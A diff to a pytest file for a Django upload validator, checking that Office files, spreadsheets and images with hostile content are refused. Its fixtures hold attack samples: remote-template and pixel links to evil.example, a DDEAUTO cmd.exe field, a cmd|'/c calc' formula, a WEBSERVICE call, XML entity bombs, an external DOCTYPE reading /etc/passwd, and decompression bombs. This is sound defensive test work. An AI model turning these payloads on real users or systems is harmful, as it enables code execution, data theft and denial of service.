@@ -5,6 +5,8 @@ import io
 import struct
 import time
 import zipfile
+import zlib
+from xml.sax.saxutils import escape
 
 import pikepdf
 import pytest
@@ -13,11 +15,12 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import RequestFactory
 from pikepdf import Array, Dictionary, Name, String
 
-from jcb import files
+from jcb import files, office_look
 from jcb.models import StoredFile
+from tests import papers
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"picture"
-JPG = b"\xff\xd8\xff\xe0" + b"picture"
+PNG = papers.picture()
+JPG = papers.picture("JPEG")
 TYPES = '<Types xmlns="t"><Override PartName="/word/document.xml" ContentType="main+xml"/></Types>'
 WORDS = "<document>Two sentences.</document>"
 
@@ -88,11 +91,14 @@ def test_a_file_is_what_it_holds_whatever_it_is_called(content, kind, name):
         b"{\\rtf1 words}",
         b" %PDF-1.7 not at the start",
         b"x",
-        office(main="somewhere/else.xml"),
     ],
 )
 def test_what_is_none_of_the_five_kinds_is_refused_with_what_to_do(content):
     assert refusal(content).startswith("This kind of file cannot be kept. Save it as a PDF")
+
+
+def test_an_archive_of_another_kind_is_refused():
+    assert "no Word document and no spreadsheet" in refusal(office(main="somewhere/else.xml"))
 
 
 def test_an_empty_file_is_refused():
@@ -114,8 +120,8 @@ def test_a_file_that_is_too_large_is_refused_before_it_is_read(settings):
 
 def test_exactly_the_limit_is_taken_in(settings):
     settings.UPLOAD_MEGABYTES = 1
-    content = PNG.ljust(1024 * 1024, b"\0")
-    assert files.take_in(upload(content))[1] == "png"
+    content = JPG.ljust(1024 * 1024, b"\0")
+    assert files.take_in(upload(content))[1] == "jpg"
 
 
 # PDF
@@ -187,31 +193,90 @@ def test_a_pdf_without_pages_is_refused():
 # Word and Excel
 
 
+MACROS, DOCUMENT_TYPE, DDE = (
+    "carries macros, controls or another file",
+    "document type or entities",
+    "asks another program",
+)
+ELSEWHERE, TEMPLATE = "fetches something from another file", "fetches its template from another computer"
+
+
+def relation(kind: str, target: str) -> str:
+    return (
+        f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    )
+
+
 @pytest.mark.parametrize(
-    "entries",
+    ("entries", "says"),
     [
-        {"word/vbaProject.bin": b"macro"},
-        {"WORD/VBAPROJECT.BIN": b"macro"},
-        {"word/embeddings/oleObject1.bin": b"object"},
-        {"word/embeddings/sheet.xlsx": b"object"},
-        {"word/activeX/activeX1.xml": "<ax/>"},
-        {"xl/oleObject1.bin": b"object"},
-        {"[Content_Types].xml": TYPES.replace("main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")},
-        {
-            "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="http://x/attachedTemplate" '
-            'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-        },
-        {
-            "word/_rels/document.xml.rels": '<Relationships><Relationship Type="http://x/oleObject" '
-            'Target="file://server/share" TargetMode="External"/></Relationships>'
-        },
-        {"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'},
-        {"word/styles.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'.encode("utf-16")},
+        ({"word/vbaProject.bin": b"macro"}, MACROS),
+        ({"WORD/VBAPROJECT.BIN": b"macro"}, MACROS),
+        ({"word/embeddings/oleObject1.bin": b"object"}, MACROS),
+        ({"word/embeddings/sheet.xlsx": b"object"}, MACROS),
+        ({"word/activeX/activeX1.xml": "<ax/>"}, MACROS),
+        ({"xl/oleObject1.bin": b"object"}, MACROS),
+        (
+            {
+                "[Content_Types].xml": TYPES.replace(
+                    "main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
+                )
+            },
+            MACROS,
+        ),
+        (
+            {
+                "word/_rels/document.xml.rels": '<Relationships><Relationship Type="http://x/vbaProject" Target="x.bin"/></Relationships>'
+            },
+            MACROS,
+        ),
+        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}, TEMPLATE),
+        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file://server/t.dotm")}, TEMPLATE),
+        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\server\share\t.dotm")}, TEMPLATE),
+        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///Templates/Board.dotx")}, ELSEWHERE),
+        ({"word/_rels/document.xml.rels": relation("image", "https://evil.example/pixel.png")}, ELSEWHERE),
+        ({"word/_rels/document.xml.rels": relation("oleObject", "file://server/share")}, ELSEWHERE),
+        ({"word/document.xml": '<document><p><r><fldSimple instr="DDEAUTO cmd.exe x"/></r></p></document>'}, DDE),
+        ({"word/document.xml": '<document><p><fldSimple instr="INCLUDETEXT x"/></p></document>'}, ELSEWHERE),
+        ({"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}, DOCUMENT_TYPE),
+        ({"word/styles.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'.encode("utf-16")}, DOCUMENT_TYPE),
+        ({"word/header1.xml": "<a>" * 300 + "</a>" * 300}, "nested too deeply"),
+        ({"WORD/document.xml": WORDS}, "two parts of one name"),
     ],
     ids=str,
 )
-def test_a_document_with_macros_objects_or_a_way_out_is_refused(entries):
-    assert refusal(office(entries)).startswith("The file carries macros, another file or a link to a template")
+def test_a_document_with_macros_objects_or_a_way_out_is_refused(entries, says):
+    assert says in refusal(office(entries))
+
+
+@pytest.mark.parametrize(
+    ("formula", "says"), [("cmd|'/c calc'!A0", DDE), ('_xlfn.WEBSERVICE("https://evil.example/")', ELSEWHERE)]
+)
+def test_a_spreadsheet_whose_formulas_reach_out_is_refused(formula, says):
+    sheet = {"Costs": f"<sheetData><row><c><f>{escape(formula)}</f></c></row></sheetData>"}
+    assert says in refusal(papers.xlsx(sheet))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"\x89PNG\r\n\x1a\n",
+        b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
+        b"\xff\xd8\xff\xe0 and no picture",
+        PNG[:40],
+        PNG[:-20] + bytes([PNG[-20] ^ 1]) + PNG[-19:],
+    ],
+    ids=["nothing", "a script", "words", "half", "one bit turned over"],
+)
+def test_what_only_begins_like_a_picture_is_refused(content):
+    assert "The picture is damaged" in refusal(content)
+
+
+@pytest.mark.parametrize("size", [(30_000, 30_000), (2**31 - 1, 2**31 - 1)])
+def test_a_picture_that_would_unpack_into_gigabytes_is_refused(size):
+    header = b"IHDR" + struct.pack(">LLBBBBB", *size, 8, 6, 0, 0, 0)
+    content = PNG[:12] + header + struct.pack(">L", zlib.crc32(header)) + PNG[33:]
+    assert "too large to be shown" in refusal(content)
 
 
 def test_a_link_to_a_web_page_is_no_reason_to_refuse_a_document():
@@ -220,19 +285,19 @@ def test_a_link_to_a_web_page_is_no_reason_to_refuse_a_document():
 
 
 def test_a_bomb_is_found_while_it_is_unpacked(monkeypatch):
-    monkeypatch.setattr(files, "UNPACKED_LIMIT", 5 * 1024 * 1024)
+    monkeypatch.setattr(office_look, "MOST_UNPACKED", 5 * 1024 * 1024)
     bomb = office({"word/media/image1.bin": b"\0" * (6 * 1024 * 1024)})
     assert len(bomb) < 20_000
     assert "unpacks into something too large" in refusal(bomb)
 
 
 def test_many_entries_that_are_each_small_enough_still_count_together(monkeypatch):
-    monkeypatch.setattr(files, "UNPACKED_LIMIT", 5 * 1024 * 1024)
+    monkeypatch.setattr(office_look, "MOST_UNPACKED", 5 * 1024 * 1024)
     assert "too large" in refusal(office({f"word/media/{n}.bin": b"\0" * 1024 * 1024 for n in range(6)}))
 
 
 def test_an_archive_of_too_many_entries_is_refused():
-    many = office({f"word/media/{n}.bin": b"" for n in range(files.ENTRY_LIMIT)})
+    many = office({f"word/media/{n}.bin": b"" for n in range(office_look.MOST_ENTRIES)})
     assert "too large" in refusal(many)
 
 
